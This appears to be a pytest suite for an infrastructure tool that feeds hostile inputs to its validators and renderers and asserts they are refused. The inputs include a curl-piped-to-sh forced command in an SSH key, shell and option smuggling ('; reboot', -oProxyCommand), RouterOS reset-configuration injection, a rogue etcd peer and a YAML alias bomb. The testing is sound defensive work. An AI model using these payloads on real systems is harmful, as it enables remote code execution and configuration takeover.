"""Issue 13: what a corpus of hostile and careless inputs found, one test per case of its list,
driven through the command as a person runs it (`unde-infra validate` / `preview`, in process)
or through the model and the renderers where the case is theirs.

Crashes: a traceback and exit 1 instead of `path: message` and exit 2.
Injection: a value that became lines of its own in a rendered file.
Validation and policy gaps: input that was accepted and should not have been.

Two cases of the list are tested with the policy pack in test_policies.py: a removed adopted
server (test_adopted_servers_kept) and a policy that fires on a data server open to the internet
whatever policy.yaml says (test_a_data_server_open_to_the_internet_always_fires, here)."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from policies import rules
from tests.conftest import project_copy, run_cli
from unde_infra.errors import TopologyError
from unde_infra.model import DEFAULT_TOPOLOGY, load_topology
from unde_infra.render import escape
from unde_infra.render.cloud_init import base_files, bootstrap_user_data
from unde_infra.render.wireguard import TunnelKeys, routeros_script
from unde_infra.validators import ssh_public_key

ROOT = Path(__file__).resolve().parents[2]
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAOhB7/zzhC+HXDdGOdLwJln5NYwm6UNXx3chmQSVTG4 admin@example"


def topology(tmp_path: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    data = yaml.safe_load(DEFAULT_TOPOLOGY.read_text())
    edit(data)
    path = tmp_path / "topology.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


def validate(path: Path) -> tuple[int, list[str]]:
    code, _, err = run_cli(["validate", "--topology", str(path)])
    return code, err.splitlines()


def problems_of(tmp_path: Path, edit: Callable[[dict[str, Any]], None]) -> list[str]:
    code, lines = validate(topology(tmp_path, edit))
    assert code == 2, lines
    return [line.strip() for line in lines[1:]]


def stack_config(project: Path, stack: str, edit: Callable[[dict[str, Any]], None]) -> None:
    path = project / f"Pulumi.{stack}.yaml"
    data = yaml.safe_load(path.read_text())
    edit(data["config"])
    path.write_text(yaml.safe_dump(data, sort_keys=False))


def preview(tmp_path: Path, stack: str, edit: Callable[[dict[str, Any]], None] | None = None,
            topology_file: Path | None = None) -> tuple[int, str, list[str], Path]:
    project = project_copy(tmp_path)
    if edit is not None:
        stack_config(project, stack, edit)
    out = tmp_path / "out"
    args = ["preview", "--stack", stack, "--project-dir", str(project), "--out", str(out)]
    code, stdout, stderr = run_cli(args + (["--topology", str(topology_file)] if topology_file else []))
    return code, stdout, [line.strip() for line in stderr.splitlines()], out


# --------------------------------------------------------------------------------------------
# Crashes


def test_a_topology_that_is_not_utf8(tmp_path: Path) -> None:
    path = tmp_path / "topology.yaml"
    path.write_bytes(DEFAULT_TOPOLOGY.read_bytes().replace(b"scraper}", b"scr\xe4per}", 1))
    code, lines = validate(path)
    assert code == 2
    assert lines == [f"{path}: 1 problem", f"  {path}: not UTF-8 text (byte 0xe4 at offset {path.read_bytes().index(0xE4)}); save it as UTF-8"]


def test_an_alias_bomb_inside_a_field_is_refused_while_it_is_read(tmp_path: Path) -> None:
    anchors = ["&l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    anchors += [f"&l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 9)]
    bomb = "{description: [" + ", ".join(anchors) + "]}"
    text = DEFAULT_TOPOLOGY.read_text().replace("  scraper:          {description: scraper}", f"  scraper: {bomb}")
    path = tmp_path / "topology.yaml"
    path.write_text(text)
    code, lines = validate(path)
    assert code == 2
    assert lines[1].endswith("more than 64 aliases; write the values out")
    # Within the alias count but expanding past the cap: refused as well, before anything is built.
    small = ["&s0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    small += [f"&s{i} [{', '.join([f'*s{i - 1}'] * 10)}]" for i in range(1, 6)]
    path.write_text(DEFAULT_TOPOLOGY.read_text().replace(
        "  scraper:          {description: scraper}", "  scraper: {description: [" + ", ".join(small) + "]}"))
    code, lines = validate(path)
    assert code == 2 and lines[1].endswith("expands to more than 20000 values through aliases (an alias bomb?)")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("", "config/policy.yaml: the file is empty (or holds only comments)"),
        ("local_limit: {vcpu: 16, ram_gb: 32\n", "line 2, column 1: malformed YAML"),
        ("local_limit: [16]\n", "local_limit: Input should be a valid dictionary or instance of Size (got [16])"),
        ("entry_point_tasks: [api]\n", "local_limit: required"),
    ],
    ids=["empty", "malformed", "wrong-type", "missing-keys"],
)
def test_a_malformed_or_empty_policy_file(content: str, expected: str, tmp_path: Path, monkeypatch) -> None:
    policy = tmp_path / "config" / "policy.yaml"
    policy.parent.mkdir()
    policy.write_text(content)
    monkeypatch.setattr(rules, "POLICY_CONFIG", policy)
    code, _, err = run_cli(["validate"])
    assert code == 2 and "Traceback" not in err
    assert any(line.strip().replace(str(tmp_path) + "/", "").startswith(expected) for line in err.splitlines()), err


@pytest.mark.parametrize(
    ("hosts", "expected"),
    [
        (["10.0.0.1"], "hosts: a mapping of server name to its setting, not ['10.0.0.1']"),
        ({"local-app": "192.0.2.10"}, "hosts.local-app: needs at least an address (and optionally user, port)"),
        ({"local-app": {"address": "192.0.2.10", "port": "22a"}},
         "hosts.local-app.port: a port is a whole number from 1 to 65535, not a str (got '22a')"),
        ({"local-app": {"address": "192.0.2.10", "port": True}},
         "hosts.local-app.port: a port is a whole number from 1 to 65535, not true/false (got True)"),
        ({"local-app": {"address": "192.0.2.10; reboot"}},
         "hosts.local-app.address: '192.0.2.10; reboot' is neither an IP address nor a host name"),
        ({"local-app": {"address": "192.0.2.10", "user": "root -oProxyCommand=x"}},
         "hosts.local-app.user: 'root -oProxyCommand=x' is not a user name"),
    ],
    ids=["list", "string", "port-text", "port-bool", "address-shell", "user-option"],
)
def test_malformed_settings_of_existing_hosts(hosts: Any, expected: str, tmp_path: Path) -> None:
    code, stdout, lines, out = preview(tmp_path, "local", lambda c: c.update({"unde-infra:provider": "existing",
                                                                               "unde-infra:hosts": hosts}))
    assert code == 2 and not out.exists()
    assert any(line.startswith(expected) for line in lines), lines


def test_renamed_entries_are_found_by_task_and_removed_ones_are_reported(tmp_path: Path) -> None:
    def rename(section: str, old: str, new: str) -> Callable[[dict[str, Any]], None]:
        return lambda d: d[section].update({new: d[section].pop(old)})

    # Renamed: the code finds the monitoring server, PostHog and the witness by task and site.
    def renamed_all(d: dict[str, Any]) -> None:
        for old, new in (("monitoring", "mon-1"), ("posthog", "analytics"), ("etcd-witness", "witness-1")):
            rename("servers", old, new)(d)
        d["etcd"]["placements"]["three-sites"][2]["host"] = "witness-1"

    renamed = topology(tmp_path, renamed_all)
    for stack in ("helsinki", "local"):
        code, stdout, lines, out = preview(tmp_path / stack, stack, topology_file=renamed)
        assert code == 0, lines
    assert (tmp_path / "local" / "out" / "local" / "artifacts" / "local-app" / "etc" / "unde" / "secrets" / "posthog.env").exists()
    # Removed: `path: message`, exit 2.
    cases = {
        "monitoring": "servers: exactly one server must have task monitoring (Prometheus, Alertmanager and Grafana of both sites); found none",
        "posthog": "servers: exactly one server must have task posthog (local-app sends its events there); found none",
        "helsinki-gw": "servers: exactly one server must have task gateway",
        "local-app": "servers: at least one server must have task api",
    }
    for name, expected in cases.items():
        found = problems_of(tmp_path, lambda d, name=name: d["servers"].pop(name))
        assert any(line.startswith(expected) for line in found), found
    found = problems_of(tmp_path, lambda d: d["object_storage"]["buckets"].update(
        backups=d["object_storage"]["buckets"].pop("unde-backups")))
    assert found == ["object_storage.buckets: the bucket unde-backups is required: it holds the pgBackRest repositories of every shard"]


def test_an_out_path_that_is_a_file_is_refused_before_any_stack_runs(tmp_path: Path) -> None:
    blocker = tmp_path / "out"
    blocker.write_text("keep me\n")
    for out in (blocker, blocker / "sub"):
        code, stdout, stderr = run_cli(["preview", "--stack", "all", "--out", str(out)])
        assert code == 2
        assert stderr == f"--out: {blocker} is a file, not a directory\n"
        assert "previewing" not in stdout  # nothing ran
    assert blocker.read_text() == "keep me\n"
    (tmp_path / "dir").mkdir()
    (tmp_path / "dir" / "local").write_text("in the way\n")
    code, _, stderr = run_cli(["preview", "--stack", "local", "--out", str(tmp_path / "dir")])
    assert code == 2 and stderr.startswith(f"--out: {tmp_path / 'dir' / 'local'} is in the way")


# --------------------------------------------------------------------------------------------
# Injection


def test_env_files_cannot_gain_a_line(tmp_path: Path, inventory) -> None:
    found = problems_of(tmp_path, lambda d: d["servers"]["local-mood"].update(task="mood\nUNDE_ROLE=admin"))
    assert found == ["servers.local-mood.task: the value holds a control character U+000A (line feed); values are one line of printable text"]
    # The renderer refuses it too, if a value ever got past the model.
    hostile = dataclasses.replace(inventory.server("local-mood"), task="mood\nUNDE_ROLE=admin")
    with pytest.raises(escape.UnsafeValue):
        base_files(hostile, inventory)
    env = base_files(inventory.server("local-mood"), inventory)["/etc/unde/server.env"]
    assert env.splitlines() == ["UNDE_SERVER=local-mood", "UNDE_SITE=local", "UNDE_TASK=mood", "UNDE_MANAGED_BY=unde-infra",
                                "UNDE_PRIVATE_IP=10.2.0.11"]


def test_etcd_initial_cluster_cannot_gain_a_foreign_peer(tmp_path: Path) -> None:
    def foreign(d: dict[str, Any]) -> None:
        d["etcd"]["placements"]["three-sites"][0]["member"] = "etcd-1,evil=http://203.0.113.66:2380"

    (line,) = problems_of(tmp_path, foreign)
    assert line.startswith("etcd.placements.three-sites.0.member: 'etcd-1,evil=http://203.0.113.66:2380' is not a DNS label")


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (lambda s: s.update(region="hel1 repo1-s3-verify-tls=n"), "object_storage.region: 'hel1 repo1-s3-verify-tls=n' is not a DNS label"),
        (lambda s: s.update(endpoint="hel1.your-objectstorage.com/x?repo1-s3-verify-tls=n"), "object_storage.endpoint: 'hel1.your-objectstorage.com/x?repo1-s3-verify-tls=n' is not host[:port]"),
        (lambda s: s["buckets"].update({"unde-backups\nrepo1-path=/tmp": {"purpose": "x"}}), "object_storage.buckets['unde-backups\\nrepo1-path=/tmp']: the key holds a control character"),
    ],
    ids=["region", "endpoint", "bucket"],
)
def test_pgbackrest_conf_cannot_gain_an_option(edit, expected: str, tmp_path: Path) -> None:
    found = problems_of(tmp_path, lambda d: edit(d["object_storage"]))
    assert any(line.startswith(expected) for line in found), found


def test_ssh_authorized_keys_cannot_gain_a_key(tmp_path: Path, inventory) -> None:
    for hostile, expected in (
        (KEY + "\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG1ho4d0mZ2fJ9Fp3XhXqA5U2n0S2gk2U0m8Q5xS8Z2F evil",
         "sshKeys[0]: the value holds a control character U+000A"),
        ('command="curl -s https://example.invalid | sh" ' + KEY, "sshKeys[0]: not an OpenSSH public key"),
        ("not a key at all", "sshKeys[0]: not an OpenSSH public key"),
        ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
         "sshKeys[0]: the value holds a control character"),
    ):
        code, _, lines, out = preview(tmp_path / str(len(hostile)), "helsinki", lambda c, k=hostile: c.update({"unde-infra:sshKeys": [k]}))
        assert code == 2 and not out.exists()
        assert any(line.startswith(expected) for line in lines), lines
        assert "b3BlbnNzaC1rZXktdjEAAAAA" not in "\n".join(lines)  # a private key is never echoed
    with pytest.raises(ValueError, match="this is a private key"):
        ssh_public_key("-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAA")
    # What reaches the user data is the key as parsed, written back canonically.
    assert ssh_public_key("  ssh-ed25519   AAAAC3NzaC1lZDI1NTE5AAAAIAOhB7/zzhC+HXDdGOdLwJln5NYwm6UNXx3chmQSVTG4   admin@example ") == KEY
    user_data = yaml.safe_load(bootstrap_user_data(inventory.server("scraper"), inventory, [KEY]))
    assert user_data["users"][0]["ssh_authorized_keys"] == [KEY]


def test_the_routeros_script_cannot_gain_a_command(tmp_path: Path, inventory) -> None:
    for key, value in (("routerosPrivateInterface", "ether2 ; /system reset-configuration"),
                       ("routerosUser", "admin\n/system reset-configuration")):
        code, _, lines, _ = preview(tmp_path / key, "local", lambda c, k=key, v=value: c.update({f"unde-infra:{k}": v}))
        assert code == 2 and any(line.startswith(f"{key}: ") for line in lines), lines
    # The script quotes whatever it is given, by RouterOS's rules.
    keys = {s.name: TunnelKeys.generate() for s, _ in inventory.tunnels()}
    hostile = 'ether2" ; /system reset-configuration ; :put "'
    script = routeros_script(inventory, keys, [], hostile)
    quoted = escape.routeros_string(hostile)
    assert quoted == '"ether2\\" ; /system reset-configuration ; :put \\""'
    assert f"in-interface={quoted}" in script
    assert not any(line.startswith("/system") for line in script.splitlines())


@pytest.mark.parametrize(
    ("bucket", "reason"),
    [("Unde_Backups", "only lowercase letters"), ("ab", "3-63 characters"), ("192.168.1.1", "not formatted as an IP address"),
     ("xn--unde", "not starting with xn--"), ("unde..backups", "no two adjacent periods"), ("-unde", "starts and ends")],
)
def test_bucket_names_by_s3_rules(bucket: str, reason: str, tmp_path: Path) -> None:
    found = problems_of(tmp_path, lambda d: d["object_storage"]["buckets"].update({bucket: {"purpose": "x"}}))
    assert any(line.startswith("object_storage.buckets") and reason in line for line in found), found


# --------------------------------------------------------------------------------------------
# Validation and policy gaps


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (lambda d: d["servers"]["local-app"].update(instances=True), "servers.local-app.instances: Input should be a valid integer (got True)"),
        (lambda d: d["shards"].update(count=True), "shards.count: Input should be a valid integer (got True)"),
        (lambda d: d["servers"]["local-mood"]["tunnel"].update(index=False), "servers.local-mood.tunnel.index: Input should be a valid integer (got False)"),
        (lambda d: d["servers"]["local-mood"]["size"].update(vcpu="2"), "servers.local-mood.size.vcpu: Input should be a valid integer (got '2')"),
        (lambda d: d["sites"]["local"]["max_size"].update(ram_gb=float("inf")), "sites.local.max_size.ram_gb: Input should be a finite number"),
    ],
    ids=["instances", "shard-count", "tunnel-index", "vcpu-text", "infinite"],
)
def test_a_boolean_or_text_is_never_a_count(edit, expected: str, tmp_path: Path) -> None:
    assert any(line.startswith(expected) for line in problems_of(tmp_path, edit))


def test_a_count_in_the_stack_config_is_never_a_boolean(tmp_path: Path) -> None:
    code, _, lines, _ = preview(tmp_path, "local", lambda c: c.update({"unde-infra:shards": True}))
    assert code == 2 and "shards: the shard count is a whole number from 1 to 1024, not true/false (got True)" in lines


def test_an_explicit_server_never_replaces_a_scale_out_instance(tmp_path: Path) -> None:
    def collide(d: dict[str, Any]) -> None:
        d["servers"]["local-app"]["instances"] = 2
        d["servers"]["local-app-2"] = {**d["servers"]["local-mood"], "ip": "10.2.0.99", "tunnel": {"interface": "wg-app2", "index": 99}}

    assert problems_of(tmp_path, collide) == [
        "servers.local-app-2: collides with instance 2 of local-app (servers.local-app.instances: 2); rename the server or lower instances"
    ]


@pytest.mark.parametrize("address", ["10.1.0.99", "192.168.7.1", "203.0.113.5", "100.64.0.1", "224.0.0.5", "127.0.0.1"])
def test_a_public_ipv4_must_be_global(address: str, tmp_path: Path) -> None:
    found = problems_of(tmp_path, lambda d: d["servers"]["scraper"].update(public_ipv4=address))
    assert found == [f"servers.scraper.public_ipv4: {address} is not a public address (a private, reserved or documentation range)"]


def test_admin_cidrs_never_the_internet_and_ipv6_never_dropped(tmp_path: Path) -> None:
    code, _, lines, _ = preview(tmp_path / "any", "helsinki", lambda c: c.update({"unde-infra:adminCidrs": ["198.51.100.0/24", "::/0", "0.0.0.0/0"]}))
    assert code == 2
    assert "adminCidrs[1]: ::/0 is the whole internet: SSH never comes from anywhere; give the admin networks" in lines
    assert "adminCidrs[2]: 0.0.0.0/0 is the whole internet: SSH never comes from anywhere; give the admin networks" in lines
    # An IPv6 admin network is applied, on the hcloud firewalls and on the gateway's nftables.
    code, _, lines, out = preview(tmp_path / "v6", "helsinki", lambda c: c.update({"unde-infra:adminCidrs": ["198.51.100.0/24", "2001:db8:42::/48"]}))
    assert code == 0, lines
    resources = yaml.safe_load((out / "helsinki" / "resources.json").read_text())
    base = next(r for r in resources if r["urn"].endswith("Firewall::unde-helsinki-base"))
    ssh = next(rule for rule in base["inputs"]["rules"] if rule["port"] == "22")
    assert ssh["sourceIps"] == ["198.51.100.0/24", "2001:db8:42::/48"]
    nft = (out / "helsinki" / "artifacts" / "helsinki-gw" / "etc" / "nftables.conf").read_text()
    assert "define ADMIN6 = { 2001:db8:42::/48 }" in nft


def test_ipv6_admin_cidrs_in_routeros_mode_are_refused_not_dropped(tmp_path: Path) -> None:
    routeros = topology(tmp_path, lambda d: d["network"]["wireguard"].update(mode="routeros"))
    code, _, lines, _ = preview(tmp_path, "local", lambda c: c.update({"unde-infra:adminCidrs": ["198.51.100.0/24", "2001:db8:42::/48"]}),
                                topology_file=routeros)
    assert code == 2
    assert any(line.startswith("adminCidrs[1]: 2001:db8:42::/48: the RouterOS gateway script applies IPv4 admin CIDRs only") for line in lines)


def test_an_empty_admin_cidr_list_is_refused(tmp_path: Path) -> None:
    code, _, lines, out = preview(tmp_path, "helsinki", lambda c: c.update({"unde-infra:adminCidrs": []}))
    assert code == 2 and not out.exists()
    assert ("adminCidrs: at least one network SSH may come from: with none, SSH is closed on every server, to the remote "
            "commands that deliver the configuration too") in lines


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (lambda p: p["enforcement"].update({"no-public-ipv4-on-data-servers": "disabled"}),
         "enforcement.no-public-ipv4-on-data-servers: a mandatory rule stays mandatory (got disabled): it may not be loosened"),
        (lambda p: p["enforcement"].update({"public-ingress": "advisory"}), "enforcement.public-ingress: a mandatory rule stays mandatory"),
        (lambda p: p.update(entry_point_tasks=["api", "staging-db"]),
         "entry_point_tasks[1]: staging-db holds data: data servers are never open to the internet"),
        (lambda p: p.update(tunnel_endpoint_tasks=["gateway", "shard"]), "tunnel_endpoint_tasks[1]: shard holds data"),
        (lambda p: p.update(local_limit={"vcpu": 32, "ram_gb": 64}), "local_limit: may tighten SPEC's 16 vCPU / 32 GB, never loosen it"),
        (lambda p: p.update(ssh_max_prefix=0), "ssh_max_prefix: /0 lets SSH come from the internet; at most as wide as /16"),
        (lambda p: p.update(etcd_min_members=1), "etcd_min_members: an etcd quorum needs at least 3 members"),
        (lambda p: p["stateful_tasks"].remove("shard"), "stateful_tasks: may add tasks, never drop one that holds state: shard must stay"),
        (lambda p: p["enforcement"].update({"no-such-rule": "mandatory"}), "enforcement.no-such-rule: unknown rule"),
    ],
    ids=["disable-data-rule", "advisory-ingress", "data-entry-point", "data-tunnel-endpoint", "local-limit", "ssh-anywhere",
         "etcd-one", "drop-stateful", "unknown-rule"],
)
def test_policy_yaml_may_not_be_loosened(edit, expected: str, tmp_path: Path) -> None:
    data = yaml.safe_load((ROOT / "config" / "policy.yaml").read_text())
    edit(data)
    path = tmp_path / "policy.yaml"
    path.write_text(yaml.safe_dump(data))
    with pytest.raises(TopologyError) as error:
        rules.load_policy_config(path)
    assert any(str(p).startswith(expected) for p in error.value.problems), error.value.report()


def test_policy_yaml_may_tighten(tmp_path: Path) -> None:
    data = yaml.safe_load((ROOT / "config" / "policy.yaml").read_text())
    data.update(local_limit={"vcpu": 8, "ram_gb": 16}, ssh_max_prefix=24, ssh_max_prefix_ipv6=48, etcd_min_members=5)
    data["enforcement"]["etcd-quorum-survives-site-loss"] = "mandatory"
    path = tmp_path / "policy.yaml"
    path.write_text(yaml.safe_dump(data))
    config = rules.load_policy_config(path)
    assert (config.local_limit.vcpu, config.ssh_max_prefix, config.ssh_max_prefix6, config.etcd_min_members) == (8, 24, 48, 5)


def test_a_data_server_cannot_be_made_public_through_the_topology(tmp_path: Path) -> None:
    assert problems_of(tmp_path, lambda d: d["tasks"]["staging-db"].update(entry_point=True)) == [
        "tasks.staging-db.entry_point: staging-db holds data: a data server is never an entry point"
    ]
    assert problems_of(tmp_path, lambda d: d["tasks"]["staging-db"].update(data=False)) == [
        "tasks.staging-db.data: staging-db holds data: it stays data: true (data servers are never public)"
    ]
    assert problems_of(tmp_path, lambda d: d["tasks"]["redis"].update(stateful=False)) == [
        "tasks.redis.stateful: redis holds state: it stays stateful: true (never replaced)"
    ]


def test_a_data_server_open_to_the_internet_always_fires(run_stack) -> None:
    from policies.views import context_for, from_record

    result = run_stack("helsinki")
    views = [from_record(r) for r in result.run.records]
    # The HTTPS firewall, attached to staging-db as well (a component's bug, or a hand edit).
    base = next(v for v in views if v.name == "unde-helsinki-base" and v.type == rules.FIREWALL)
    opened = dataclasses.replace(base, inputs={**base.inputs, "rules": [
        *base.inputs["rules"], {"direction": "in", "protocol": "tcp", "port": "443", "sourceIps": ["0.0.0.0/0", "::/0"]}]})
    staging = next(v for v in views if v.name == "staging-db" and v.type == "hcloud:index/server:Server")
    attachment = next(v for v in views if v.type == "hcloud:index/firewallAttachment:FirewallAttachment" and base.urn in v.dependencies)
    attached = dataclasses.replace(attachment, dependencies=(*attachment.dependencies, staging.urn))
    views = [opened if v is base else attached if v is attachment else v for v in views]
    # Even with a policy that lists staging-db as an entry point (load_policy_config refuses
    # that; the rule does not rely on it).
    ctx = context_for("helsinki", inventory=result.inventory, admin_cidrs=("198.51.100.0/24",), import_ids={})
    loose = dataclasses.replace(ctx, config=dataclasses.replace(ctx.config, entry_point_tasks=frozenset({"api", "staging-db"})))
    messages = [v.message for v in rules.evaluate(views, loose) if v.policy == "public-ingress"]
    assert "staging-db holds data and is open to the internet (tcp 443): data servers are never public" in messages


def test_a_one_member_etcd_is_refused(tmp_path: Path) -> None:
    def one(d: dict[str, Any]) -> None:
        d["etcd"]["placements"]["three-sites"] = [{"member": "etcd-1", "host": "local-etcd-1"}]

    assert problems_of(tmp_path, one) == [
        "etcd.placements.three-sites: 1 member: etcd needs at least 3, so that losing one keeps a quorum"
    ]


def test_plaintext_secrets_are_refused_without_echoing_them(tmp_path: Path) -> None:
    secret = "AKIAPLAINTEXTSECRET42"
    code, stdout, lines, out = preview(tmp_path, "helsinki", lambda c: c.update(
        {"unde-infra:objectStorageAccessKey": secret, "unde-infra:telegramBotToken": {"secure": "v1:abc"}, "hcloud:token": secret}))
    assert code == 2 and not out.exists()
    assert ("hcloud:token: a secret in plain text in Pulumi.helsinki.yaml: remove it from the file and store it encrypted "
            "with `pulumi config set --secret hcloud:token <value> -s helsinki`") in lines
    assert ("objectStorageAccessKey: a secret in plain text in Pulumi.helsinki.yaml: remove it from the file and store it "
            "encrypted with `pulumi config set --secret objectStorageAccessKey <value> -s helsinki`") in lines
    assert not any("telegramBotToken" in line for line in lines)  # encrypted: fine
    assert secret not in stdout + "\n".join(lines)


def test_plaintext_secrets_are_refused_by_the_program_itself(fresh_event_loop) -> None:
    """A real `pulumi up` reads config through the engine: a value set without --secret arrives
    as plain config, and the program stops on it before registering anything."""
    import pulumi

    from unde_infra.offline import run_program
    from unde_infra.settings import read_stack_config

    config = {**read_stack_config("local"), "posthogApiKey": "phc_plaintext"}
    with pytest.raises(pulumi.RunError) as error:
        run_program("local", config)
    assert isinstance(error.value.__cause__, TopologyError)
    assert "posthogApiKey: a secret in plain text in Pulumi.local.yaml" in error.value.__cause__.report()
    assert "phc_plaintext" not in error.value.__cause__.report()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("../outside.yaml", "topology: '../outside.yaml' is outside the project"),
        ("/etc/unde/topology.yaml", "topology: '/etc/unde/topology.yaml' is outside the project"),
        ("config/../../x.yaml", "topology: 'config/../../x.yaml' is outside the project"),
        ("config/topology.txt", "topology: 'config/topology.txt' is not a YAML file (.yaml)"),
        ("config/link.yaml", "topology: 'config/link.yaml' leads outside the project (through a symbolic link)"),
    ],
)
def test_a_stack_config_topology_stays_inside_the_project(value: str, expected: str, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.yaml"
    outside.write_text(DEFAULT_TOPOLOGY.read_text())
    project = project_copy(tmp_path)
    (project / "config" / "link.yaml").symlink_to(outside)
    stack_config(project, "helsinki", lambda c: c.update({"unde-infra:topology": value}))
    code, _, stderr = run_cli(["preview", "--stack", "helsinki", "--project-dir", str(project), "--out", str(tmp_path / "o")])
    assert code == 2
    assert any(line.strip().startswith(expected) for line in stderr.splitlines()), stderr


def test_the_command_line_topology_may_be_anywhere(tmp_path: Path) -> None:
    outside = tmp_path / "mine.yaml"
    outside.write_text(DEFAULT_TOPOLOGY.read_text())
    code, stdout, err = run_cli(["validate", "--topology", str(outside)])
    assert code == 0, err
    assert stdout.startswith(f"{outside}: ok")


def test_every_config_file_of_the_project_loads() -> None:
    """The committed files pass the same checks (a regression guard for the loader's limits)."""
    from unde_infra.model import load_server_types
    from unde_infra.preview import documented_stack_outputs
    from unde_infra.settings import read_stack_config

    assert load_topology().servers
    assert load_server_types()
    assert rules.load_policy_config()
    assert documented_stack_outputs()["helsinki"]["networkId"] == 10000001
    for stack in ("helsinki", "local"):
        assert read_stack_config(stack)["site"] == stack


def test_server_types_by_schema(tmp_path: Path) -> None:
    from unde_infra.model import DEFAULT_SERVER_TYPES, load_server_types

    text = DEFAULT_SERVER_TYPES.read_text()
    text = text.replace("cx23:  {vcpu: 2,", "cx23:  {vcpu: true,").replace("cpx12: {", "CPX 12: {")
    text = text.replace("everywhere: &everywhere [fsn1, nbg1, hel1, ash, hil, sin]", "everywhere: &everywhere [fsn1, mars]")
    path = tmp_path / "server_types.yaml"
    path.write_text(text)
    with pytest.raises(TopologyError) as error:
        load_server_types(path)
    lines = [str(p) for p in error.value.problems]
    assert "types.cx23.vcpu: Input should be a valid integer (got True)" in lines
    assert any(line.startswith("types.cpx22.locations.1: Input should be 'fsn1', 'nbg1', 'hel1', 'ash', 'hil' or 'sin'") for line in lines)
    path.write_text(DEFAULT_SERVER_TYPES.read_text().replace("cpx12: {", "CPX12: {"))
    with pytest.raises(TopologyError) as error:
        load_server_types(path)
    assert [str(p) for p in error.value.problems] == ["types.CPX12: an hcloud server type name: lowercase letters and digits (cx23)"]


def test_offline_stack_outputs_by_kind() -> None:
    from unde_infra.stack_outputs import check_stack_outputs

    good = yaml.safe_load((ROOT / "config" / "offline-stack-outputs.yaml").read_text())
    for key, value, expected in (
        ("gatewayPublicAddress", "gw.example; PostUp = touch /tmp/x", "helsinki.gatewayPublicAddress: 'gw.example; PostUp = touch /tmp/x' is not an IPv4 address"),
        ("gatewayPublicAddress6", "46.62.233.30", "helsinki.gatewayPublicAddress6: 46.62.233.30 is not an IPv6 address"),
        ("gatewaySshEndpoint", "root@46.62.233.30:22 -oProxyCommand=x", "helsinki.gatewaySshEndpoint: "),
        ("networkId", True, "helsinki.networkId: Input should be a valid integer"),
    ):
        data = copy_of(good)
        data["helsinki"][key] = value
        with pytest.raises(TopologyError) as error:
            check_stack_outputs(data, "config/offline-stack-outputs.yaml")
        assert any(str(p).startswith(expected) for p in error.value.problems), error.value.report()


def copy_of(data: Any) -> Any:
    return yaml.safe_load(yaml.safe_dump(data))


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "Pulumi.helsinki.yaml: the file is empty (or holds only comments)"),
        (b"- config\n", "config: the stack's settings: a mapping of `unde-infra:<key>: <value>`"),
        (b"config: [site, helsinki]\n", "config: the stack's settings"),
        (b"config:\n  unde-infra:site: helsinki\n  unde-infra:site: local\n", "line 3, column 3: duplicate key 'unde-infra:site'"),
    ],
    ids=["empty", "a-list", "config-list", "duplicate"],
)
def test_a_malformed_stack_config(content: bytes, expected: str, tmp_path: Path) -> None:
    project = project_copy(tmp_path)
    (project / "Pulumi.helsinki.yaml").write_bytes(content)
    code, stdout, stderr = run_cli(["preview", "--stack", "all", "--project-dir", str(project), "--out", str(tmp_path / "o")])
    assert code == 2 and "Traceback" not in stderr
    assert any(line.strip().replace(str(project) + "/", "").startswith(expected) for line in stderr.splitlines()), stderr
    assert not (tmp_path / "o").exists()


def test_the_helsinki_stack_reference_names_the_helsinki_stack(tmp_path: Path) -> None:
    """Found by the fuzzer: a local stack pointed at another stack read outputs it never had."""
    code, _, lines, out = preview(tmp_path, "local", lambda c: c.update({"unde-infra:helsinkiStack": "8.8.8.8"}))
    assert code == 2 and not out.exists()
    assert ("helsinkiStack: not the helsinki stack of this project: organization/unde-infra/helsinki (got '8.8.8.8')") in lines
